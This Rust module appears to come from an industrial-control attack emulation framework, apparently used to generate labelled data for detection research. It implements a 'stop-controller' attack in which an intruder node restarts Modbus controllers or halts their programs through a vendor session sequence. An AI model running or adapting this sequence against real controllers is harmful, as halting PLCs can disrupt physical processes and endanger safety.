//! Stop controller: controllers are made to restart, or their programs are halted and started again.

use std::net::Ipv4Addr;

use super::{Attack, Needs, technique};
use crate::net::Node;
use crate::net::reach::vendor;
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "stop-controller",
    about: "restarts controllers, or halts their programs for a while",
    technique: technique("T0816"),
    acceptable: &["T0881", "T0858", "T0814", "T0855", "T1692.001"],
    grade: "A",
    kind: "fast",
    proto: "modbus",
    variants: &["restart", "stop"],
    needs: Needs::Sockets,
    seconds: [950, 130, 14],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    let (most, times) = stage.by((1, 3), (3, 1), (12, 1));
    let controllers = stage.controllers(most);
    for _ in 0..times {
        for &controller in &controllers {
            if stage.is("stop") {
                halt(&mut stage, &intruder, controller).await?;
            } else {
                intruder.reach(controller).restart().await?;
                stage.changed(format!("{controller} restarted"));
            }
            stage.pause(stage.by(300.0, 40.0, 0.3)).await;
        }
    }
    if stage.is("restart") {
        // The last one is still deaf.
        stage.pause(9.0).await;
        stage.lasts();
    }
    stage.recovers(90.0);
    Ok(())
}

/// Halts a controller for a while, by the vendor's function.
async fn halt(stage: &mut Stage, intruder: &Node, controller: Ipv4Addr) -> Outcome {
    let session = 0x40 | stage.rng.below(0x3f) as u8;
    let mut master = intruder.reach(controller);
    master.vendor(0, vendor::HELLO, &[0]).await?;
    master.vendor(0, vendor::RESERVE, vendor::WHO).await?;
    master.vendor(session, vendor::STOP, vendor::NOW).await?;
    stage.changed(format!("{controller} program halted"));
    stage.pause(stage.by(60.0, 20.0, 0.8)).await;
    master.vendor(session, vendor::START, vendor::NOW).await?;
    master.vendor(session, vendor::RELEASE, &[]).await?;
    Ok(())
}
